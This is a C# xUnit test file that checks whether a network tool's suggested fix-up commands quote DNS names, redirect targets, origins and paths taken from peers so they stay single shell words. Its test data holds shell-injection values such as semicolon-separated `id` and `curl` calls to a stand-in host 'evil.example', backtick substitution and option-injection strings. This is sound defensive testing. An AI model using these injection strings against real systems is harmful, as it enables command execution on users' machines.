using Soket.Explain;
using Soket.Explain.Internal;
using Soket.Languages;
using Xunit;

namespace Soket.Tests.Explain;

/// <summary>A command that is proposed may be pasted: what a peer chose is a word of text in it, or is not in it.</summary>
public sealed class ProposedCommandTests
{
    [Theory]
    [InlineData("a;{curl,evil.example}$(id).evil.example.", "'a;{curl,evil.example}$(id).evil.example'")]
    [InlineData("x';id;'.evil.example.", "…")]
    [InlineData("`id`.evil.example.", "…")]
    [InlineData("\u2019;id;\u2019.evil.example.", "…")]
    [InlineData("--trace.evil.example.", "…")]
    [InlineData("a\\\\\\.evil.example.", "…")]
    [InlineData("a,--trace.evil.example.", "'a,--trace.evil.example'")]
    [InlineData("a b\\;c.evil.example.", "'a b\\;c.evil.example'")]
    [InlineData("www.sub.evil.example.", "www.sub.evil.example")]
    public void A_name_that_a_name_server_gave_is_one_word(string alias, string word)
    {
        string remedy = Remedy("DNS_REFERRAL", "udp://192.0.2.53:53", (FailureFacts.DnsName, "www.evil.example."), (FailureFacts.DnsType, "A"), (FailureFacts.DnsAlias, alias), (FailureFacts.DnsReferral, "evil.example."), (FailureFacts.DnsServers, "ns.evil.example. 192.0.2.1"));
        Assert.Contains($"`soket dns {word} A @udp://192.0.2.1:53`", remedy, StringComparison.Ordinal);
        Assert.Contains($"`soket dns {word} A @udp://192.0.2.53:53 --trace`", remedy, StringComparison.Ordinal);
    }

    [Fact]
    public void So_are_a_zone_and_a_server_without_an_address()
    {
        string zone = Remedy("DNS_NXDOMAIN", "udp://192.0.2.53:53", (FailureFacts.DnsName, "www.evil.example."), (FailureFacts.DnsType, "A"), (FailureFacts.DnsZone, "a;id.example."), (FailureFacts.DnsNoRecursion, "true"));
        Assert.Contains("`soket dns 'a;id.example' AXFR @udp://192.0.2.53:53`", zone, StringComparison.Ordinal);
        string server = Remedy("DNS_REFERRAL", "udp://192.0.2.53:53", (FailureFacts.DnsName, "www.evil.example."), (FailureFacts.DnsType, "A"), (FailureFacts.DnsReferral, "evil.example."), (FailureFacts.DnsServers, "ns;id.example."));
        Assert.Contains("`soket dns www.evil.example A '@udp://ns;id.example:53'`", server, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("http://x;curl${IFS}evil.example", "'ws://x;curl${IFS}evil.example'")]
    [InlineData("http://x';id'", "…")]
    [InlineData("-x", "…")]
    [InlineData("https://web.example/chat", "wss://web.example/chat")]
    public void So_is_where_a_web_server_sends_on_to(string location, string word) =>
        Assert.EndsWith($"`soket connect {word}`", Remedy("WEBSOCKET_REFUSED", "ws://localhost:8080", (FailureFacts.HttpStatus, "302"), (FailureFacts.HttpLocation, location)), StringComparison.Ordinal);

    [Fact]
    public void So_are_a_protocol_an_origin_and_a_path()
    {
        Assert.EndsWith("--subprotocol 'chat,--exec=id'`", Remedy("WEBSOCKET_SUBPROTOCOL", "ws://localhost:8080", (FailureFacts.Expected, "x"), (FailureFacts.Actual, "chat,--exec=id")), StringComparison.Ordinal);
        Assert.EndsWith("--allow-origin 'https://a;id'`", Remedy("WEBSOCKET_REFUSED", "ws://localhost:8080", (FailureFacts.Role, "server"), (FailureFacts.WebSocketWhy, "origin"), (FailureFacts.HttpOrigin, "https://a;id")), StringComparison.Ordinal);
        Assert.EndsWith("`rm '/tmp/a b;id'`", Remedy("EADDRINUSE", "unix:/tmp/a b;id"), StringComparison.Ordinal);
    }

    [Fact]
    public void What_somebody_typed_is_kept_and_pasted_as_it_was_meant() =>
        Assert.Contains("`soket fetch 'http://localhost:8080/a?b=1#c' -o FILE`", Remedy("HTTP_CODING", "http://localhost:8080/a?b=1#c", (FailureFacts.HttpWhy, "unknown")), StringComparison.Ordinal);

    [Fact]
    public void What_is_no_command_cannot_look_like_one()
    {
        string remedy = Remedy("HTTP_REDIRECT", "http://localhost:8080/", (FailureFacts.HttpWhy, "body"), (FailureFacts.HttpLocation, "`soket serve echo`"));
        Assert.Contains("'soket serve echo'", remedy, StringComparison.Ordinal);
        Assert.DoesNotContain('`', remedy);
    }

    [Fact]
    public void Words_of_our_own_stay_words()
    {
        Assert.Equal("Do `kill 4 'a b'` or `x … c`, a'b.", ProposedCommand.Write($"Do `kill 4 {ProposedCommand.Mark("a b")}` or `x {ProposedCommand.Mark("-y")} c`, {ProposedCommand.Mark("a`b")}."));
        Assert.Equal("`@tcp://[::1%lo]:53`", ProposedCommand.Write($"`@{ProposedCommand.Mark("tcp://[::1%lo]:53")}`"));
    }

    private static string Remedy(string error, string endpoint, params (string Key, string Value)[] facts)
    {
        var context = new FailureContext { Endpoint = endpoint, Facts = facts.ToDictionary(fact => fact.Key, fact => fact.Value) };
        return new Explainer(new NoSystemFacts()).Explain(new SocketFailure(error == "EADDRINUSE" ? SocketCall.Bind : SocketCall.Message, SystemError.Own(error, "words"), context), Language.English).Remedy;
    }
}
